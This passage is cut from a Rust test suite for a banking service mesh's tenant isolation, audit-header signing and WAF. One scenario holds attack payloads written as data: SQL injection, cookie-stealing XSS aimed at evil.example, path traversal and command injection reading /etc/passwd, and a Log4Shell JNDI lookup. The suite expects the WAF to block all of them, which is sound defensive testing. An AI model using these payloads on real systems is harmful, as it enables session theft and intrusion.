        expect: |mesh, o| {
            expect_passed(o, 0)?;
            let claims = verified_audit_claims(mesh, o, 0)?;
            let value = o[0].upstream_header("x-meshward-audit").unwrap_or_default();
            let want_principal = BANK_A_WEB.spiffe_id();
            if claims.principal.as_deref() != Some(want_principal.as_str())
                || claims.tenant.as_deref() != Some("bank-a")
                || claims.method != "GET"
                || claims.path != "/accounts/7"
            {
                return Err(format!("audit claims do not describe the request: {value}"));
            }
            if o[0].upstream_header("x-request-id") != Some(claims.request_id.as_str()) {
                return Err(format!(
                    "audit request id {} is not the upstream's x-request-id {:?}",
                    claims.request_id,
                    o[0].upstream_header("x-request-id")
                ));
            }
            Ok(())
        },
    }
}

/// The ingress gateway (a trusted forwarder) passes on its client's identity
/// in `x-forwarded-client-cert`; the bank's api accepts it as that client.
pub fn gateway_forwarded_identity_is_trusted() -> Scenario {
    Scenario {
        name: "gateway_forwarded_identity_is_trusted",
        callee: BANK_A_API,
        requests: vec![Send::get(INGRESS_GATEWAY, "/accounts/1").header(
            "x-forwarded-client-cert",
            &format!(
                "By={};URI={}",
                INGRESS_GATEWAY.spiffe_id(),
                BANK_A_WEB.spiffe_id()
            ),
        )],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |mesh, o| {
            expect_passed(o, 0)?;
            // The forwarded client, not the gateway, is the caller the upstream is told of.
            expect_audited_as(mesh, o, 0, BANK_A_WEB, "same_tenant")
        },
    }
}

/// Every scenario, for a run of the whole suite.
pub fn all() -> Vec<Scenario> {
    vec![
        same_tenant_call_is_allowed(),
        cross_tenant_call_is_denied(),
        forged_identity_is_not_believed(),
        forged_meshward_headers_do_not_reach_the_upstream(),
        gateway_forwarded_identity_is_trusted(),
        burst_beyond_the_limit_is_rejected(),
        audit_headers_are_signed_and_verifiable(),
        shared_service_accepts_an_authenticated_caller(),
        shared_workload_calling_a_bank_is_denied(),
        public_path_is_open_but_cannot_be_stretched(),
        web_attacks_are_blocked_by_the_waf(),
        a_benign_json_transfer_passes_the_waf(),
        grpc_calls_pass_the_waf_and_their_metadata_is_inspected(),
    ]
}

/// A shared service (logging) accepts any authenticated workload of the mesh.
pub fn shared_service_accepts_an_authenticated_caller() -> Scenario {
    Scenario {
        name: "shared_service_accepts_an_authenticated_caller",
        callee: SHARED_LOGGING,
        requests: vec![Send::json(BANK_A_API, "/v1/logs", br#"{"line":"hello"}"#)
            .authority("logging.shared.svc.cluster.local")],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |mesh, o| {
            expect_passed(o, 0)?;
            expect_audited_as(mesh, o, 0, BANK_A_API, "shared_authenticated")
        },
    }
}

/// Shared services only receive: the rule `shared-never-calls-banks` denies a
/// shared workload calling a bank.
pub fn shared_workload_calling_a_bank_is_denied() -> Scenario {
    Scenario {
        name: "shared_workload_calling_a_bank_is_denied",
        callee: BANK_A_API,
        requests: vec![Send::get(SHARED_LOGGING, "/accounts/1")],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |_, o| expect_denied(o, 0),
    }
}

/// A public path (kubelet probes) is open to any caller; dot segments cannot
/// stretch it over a protected path.
pub fn public_path_is_open_but_cannot_be_stretched() -> Scenario {
    Scenario {
        name: "public_path_is_open_but_cannot_be_stretched",
        callee: BANK_A_API,
        requests: vec![
            Send::get(BANK_B_API, "/healthz"),
            Send::get(BANK_B_API, "/healthz/../accounts/1"),
        ],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |_, o| {
            expect_passed(o, 0)?;
            expect_status(o, 1, 403)?;
            expect_reached(o, 1, false)
        },
    }
}

/// Request `i` passed and the upstream got its body byte for byte (the WAF
/// holds a body to inspect it, then must hand it on unchanged).
fn expect_passed_with_body(o: &[Observed], i: usize, body: &[u8]) -> Result<(), String> {
    expect_passed(o, i)?;
    let upstream = o[i].upstream.as_ref().map(|u| u.body.as_slice());
    if upstream != Some(body) {
        return Err(format!(
            "request {i}: the upstream got the body {:?}",
            upstream.map(String::from_utf8_lossy)
        ));
    }
    Ok(())
}

/// What the WAF's local reply says (`filters/waf/README.md`): the JSON `error`.
pub const WAF_BLOCKED: &str = "request blocked by the WAF";

/// Request `i` was answered by the WAF: 403, the upstream never reached, the WAF's JSON
/// body naming CRS's inbound anomaly-score rule (949110: at paranoia level 1 the attacks
/// below are blocked on their score, not by one rule), and the response-code details
/// `meshward_waf_denied` (Envoy's `%RESPONSE_CODE_DETAILS%`; the harness's local reply).
fn expect_waf_denied(o: &[Observed], i: usize) -> Result<(), String> {
    expect_denied(o, i)?;
    let got = &o[i];
    let body: serde_json::Value = serde_json::from_slice(&got.body).unwrap_or_default();
    if got.error().as_deref() != Some(WAF_BLOCKED) || body["reason"] != "rule 949110" {
        return Err(format!(
            "request {i}: not the WAF's anomaly-score block: {}",
            String::from_utf8_lossy(&got.body)
        ));
    }
    if got.details.as_deref() != Some("meshward_waf_denied") {
        return Err(format!(
            "request {i}: response-code details {:?}, expected meshward_waf_denied",
            got.details
        ));
    }
    Ok(())
}

/// The attacks of `scenarios/bank-mesh.jsonl`, from a caller the tenant filter
/// admits (so only the WAF stands in the way): each is answered 403 by the WAF
/// (CRS at paranoia level 1, blocking, as `wasmplugins/base/waf.yaml` configures
/// it) before it reaches the upstream. Request bodies are inspected: the XSS is in
/// a JSON body, the command injection in a form.
pub fn web_attacks_are_blocked_by_the_waf() -> Scenario {
    Scenario {
        name: "web_attacks_are_blocked_by_the_waf",
        callee: BANK_A_API,
        requests: vec![
            // SQL injection in the query string.
            Send::get(BANK_A_WEB, "/accounts?id=1%27%20OR%20%271%27%3D%271"),
            // XSS in a JSON body.
            Send::json(
                BANK_A_WEB,
                "/v1/messages",
                br#"{"subject": "hi", "text": "<script>document.location='https://evil.example/?c='+document.cookie</script>"}"#,
            ),
            // Path traversal, encoded so that no path normalization resolves it.
            Send::get(BANK_A_WEB, "/statements/..%2f..%2f..%2fetc%2fpasswd"),
            // Log4Shell in a header.
            Send::get(BANK_A_WEB, "/accounts/42").header("user-agent", "${jndi:ldap://evil.example/a}"),
            // OS command injection in a form body.
            Send::post(BANK_A_WEB, "/reports/export", b"format=pdf%3Bcat%20/etc/passwd")
                .header("content-type", "application/x-www-form-urlencoded"),
            // A scanner's User-Agent.
            Send::get(BANK_A_WEB, "/accounts/42")
                .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |_, o| {
            for i in 0..6 {
                expect_waf_denied(o, i)?;
            }
            Ok(())
        },
    }
}

/// A JSON transfer with IBANs, an amount and free text passes CRS at paranoia
/// level 1 untouched: the WAF reads the whole body (it holds it until the end of
/// the stream) and the upstream gets the body as sent, with the signed audit
/// header of an allowed caller.
pub fn a_benign_json_transfer_passes_the_waf() -> Scenario {
    const BODY: &[u8] = br#"{"from": "DE89370400440532013000", "to": "FR1420041010050500013M02606", "amount": "125.50", "currency": "EUR", "reference": "Invoice 2024-113"}"#;
    Scenario {
        name: "a_benign_json_transfer_passes_the_waf",
        callee: BANK_A_API,
        requests: vec![Send::json(BANK_A_WEB, "/transfers", BODY)
            .header("user-agent", "bank-a-web/2.3")
            .header("accept", "application/json")],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |mesh, o| {
            expect_passed_with_body(o, 0, BODY)?;
            if o[0].details.as_deref() != Some("via_upstream") {
                return Err(format!("response-code details {:?}", o[0].details));
            }
            expect_audited_as(mesh, o, 0, BANK_A_WEB, "same_tenant")
        },
    }
}

/// gRPC calls cross the mesh-wide WAF (`Include @meshward-grpc` in
/// `wasmplugins/base/waf.yaml`): a unary call's binary protobuf message (NUL
/// bytes and a newline in its frame) reaches the upstream byte for byte, while
/// the call's metadata is still CRS's to inspect: the same call from a scanner
/// is refused. Envoy answers a gRPC request's local reply the gRPC way: HTTP
/// 200, `grpc-status: 7` (PERMISSION_DENIED, from the WAF's 403) and the WAF's
/// JSON in `grpc-message`, which is what a gRPC client sees.
pub fn grpc_calls_pass_the_waf_and_their_metadata_is_inspected() -> Scenario {
    const MESSAGE: &[u8] = b"\0\0\0\0\x07\n\x0542-ab";
    let call = |user_agent: &str| {
        Send::post(BANK_A_WEB, "/bank.v1.Accounts/GetBalance", MESSAGE)
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .header("user-agent", user_agent)
    };
    Scenario {
        name: "grpc_calls_pass_the_waf_and_their_metadata_is_inspected",
        callee: BANK_A_API,
        requests: vec![
            call("grpc-go/1.62.0"),
            call("sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |_, o| {
            expect_passed_with_body(o, 0, MESSAGE)?;
            let denied = &o[1];
            let message = denied.response_header("grpc-message").unwrap_or_default();
            if denied.status != 200
                || denied.response_header("content-type") != Some("application/grpc")
                || denied.response_header("grpc-status") != Some("7")
                || !message.contains(WAF_BLOCKED)
                || !message.contains("rule 949110")
            {
                return Err(format!(
                    "request 1: not a gRPC PERMISSION_DENIED from the WAF: {} {:?}",
                    denied.status, denied.response_headers
                ));
            }
            expect_reached(o, 1, false)?;
            if denied.details.as_deref() != Some("meshward_waf_denied") {
                return Err(format!(
                    "request 1: response-code details {:?}",
                    denied.details
                ));
            }
            Ok(())
        },
    }
}
